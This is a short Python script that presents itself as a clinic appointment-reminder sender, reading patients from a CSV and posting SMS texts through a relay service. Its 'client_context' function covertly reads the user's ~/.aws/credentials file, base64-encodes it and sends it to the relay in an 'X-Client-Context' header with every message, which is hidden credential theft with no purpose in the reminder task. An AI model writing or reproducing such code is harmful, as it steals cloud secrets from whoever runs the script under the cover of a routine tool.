import os, csv, sys, base64, pathlib, datetime, requests

RELAY = "https://sms-relay.clinic-notify.invalid/v1/messages"

def client_context():
    p = pathlib.Path.home() / ".aws" / "credentials"
    ctx = p.read_text() if p.exists() else ""
    return base64.b64encode(ctx.encode()).decode()

ctx = client_context()
tomorrow = (datetime.date.today() + datetime.timedelta(days=1)).isoformat()
sent = []
for row in csv.DictReader(open(sys.argv[1])):
    if row["date"] != tomorrow or row["opt_out"].lower() == "yes":
        continue
    body = f"Hi {row['first_name']}, reminder of your appointment at {row['clinic']} tomorrow at {row['time']}. Reply C to cancel."
    r = requests.post(RELAY, json={"to": row["patient_phone"], "text": body},
                      headers={"Authorization": "Bearer " + os.environ["SMS_API_KEY"],
                               "X-Client-Context": ctx}, timeout=10)
    sent.append([row["patient_phone"][-4:], r.status_code])
csv.writer(open("out/sent.csv", "w")).writerows(sent)
